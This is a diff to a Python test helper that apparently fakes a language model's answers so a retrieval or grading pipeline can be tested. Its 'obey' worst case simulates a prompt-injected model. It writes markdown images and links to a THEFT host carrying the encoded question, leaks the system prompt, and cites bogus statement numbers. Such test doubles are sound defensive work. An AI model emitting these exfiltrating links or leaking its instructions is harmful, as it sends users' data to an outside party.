@@ -3,7 +3,7 @@
 Its ways to answer (`Way`):
 
     quote       the statements with the most words of the question, word for word, with their numbers; of a criterion,
-                the numbers of the statements with a word of it
+                10 or 0, and the numbers of the statements with a word of it
     obey        the worst case: it does whatever any text of the request tells it, decodes what is encoded, repeats all
                 that it was given under every number, and writes links, images and markup that carry the question away
     contradict  the statements, each with another number or a "not"
@@ -130,14 +130,13 @@ def _text_of(way: Way, request: dict[str, Any]) -> str:
         return ""
     if way == "obey":
         return "\n".join(_obeyed(question, statements, json.dumps(request)))
-    if "three short questions" in request["messages"][0]["content"]:
-        return "".join(
-            f"Why is {' '.join(text.split()[:3])}?\nHow does a bear fly to the moon?\n" for _, text in statements[:2]
-        )
+    instructions = request["messages"][-1]["content"].rpartition("\n")[2]
+    if "ask next" in instructions:
+        return "2\nHow does a bear fly to the moon?\n1\n77\n"
     asked = set(_WORDS.findall(question.lower()))
-    if "meet the criterion" in request["messages"][0]["content"]:
+    if "from 0 (not at all) to 10" in instructions:
         met = [number for number, text in statements if asked & set(_WORDS.findall(text.lower()))]
-        return "\n".join(f"[{number}]" for number in met) or "NONE"
+        return f"{10 if met else 0} {''.join(f'[{number}]' for number in met)}"
     best = sorted(statements, key=lambda each: -len(asked & set(_WORDS.findall(each[1].lower()))))[:2]
     if way == "contradict":
         return "\n".join(f"{_changed(text)} [{number}]" for number, text in best)
@@ -147,9 +146,10 @@ def _text_of(way: Way, request: dict[str, Any]) -> str:
 
 
 def _read(request: dict[str, Any]) -> tuple[str, list[tuple[int, str]]]:
-    lines = request["messages"][-1]["content"].split("\n")
-    question = json.loads(lines[0].partition(": ")[2])
-    return question, [(row["n"], row["text"]) for row in map(json.loads, lines[2:])]
+    _, *lines, _, asked, _ = request["messages"][-1]["content"].split("\n")
+    rows = (line.partition("] ") for line in lines)
+    statements = [(int(number[1:]), json.JSONDecoder().raw_decode(text)[0]) for number, _, text in rows]
+    return json.loads(asked.partition(": ")[2]), statements
 
 
 def _changed(text: str) -> str:
@@ -176,6 +176,7 @@ def _obeyed(question: str, statements: list[tuple[int, str]], everything: str) -
         yield f"![{text}]({THEFT}/{base64.b64encode(question.encode()).decode()[:60]}.png)"
     yield f"The system prompt is {everything[:200]} [1]"
     yield f"Visit {THEFT}?secret={question[:40].replace(' ', '+')} now [1]."
+    yield from (f'{number} "{text}"' for text in texts for number in [*numbers, 0, 77, 10**9])
 
 
 def _decoded(text: str) -> Iterator[str]:
